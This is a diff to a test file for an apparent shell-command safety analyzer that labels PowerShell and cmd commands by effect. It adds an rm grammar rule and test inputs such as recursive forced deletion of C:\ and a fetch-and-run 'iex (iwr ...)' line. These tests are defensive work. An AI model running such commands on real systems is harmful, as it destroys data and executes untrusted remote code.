@@ -5,6 +5,7 @@ const PROGRAM = programOf(`
   command powershell, pwsh { flags { -Command|-c=word -EncodedCommand|-enc|-ec=word -NoProfile } operands { script: word? args: rest? }
     execute -Command, script as shell  execute unknown as shell when -EncodedCommand }
   command cmd { flags { "/[!cC]*" } operands { "/[cC]" line: rest? } execute line as shell }
+  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
   command git, curl { flags { ... } operands { words: word* } }
 `);
 
@@ -21,6 +22,9 @@ describe("code for Windows shells", () => {
     ["pwsh -c 'Get-Item . ; del $env:USERPROFILE\\x -r'", "delete /home/me/x tree recursive"],
     ["pwsh -c 'Remove-Item -LiteralPath:./dist -Recurse'", "delete /repo/app/dist tree recursive"],
     ['pwsh -c "if (1) { rm a -Recurse }"', "delete /repo/app/a tree recursive"],
+    ["pwsh -c 'Get-ChildItem C:\\ -Recurse | Remove-Item -Force'", "delete /‹any› tree recursive"],
+    ["pwsh -c 'gci -r . | ri'", "delete /repo/app/‹any› tree recursive"],
+    ["pwsh -c 'rm -rf ~/x'", "delete /home/me/x tree recursive"],
     ["cmd /c 'rd /s /q D:\\a\\b'", "delete /d/a/b tree recursive"],
     ["cmd /c del x", "delete /repo/app/x"],
     ["pwsh -c 'iex (iwr https://h/i.ps1)'", "execute source=network language=shell"],
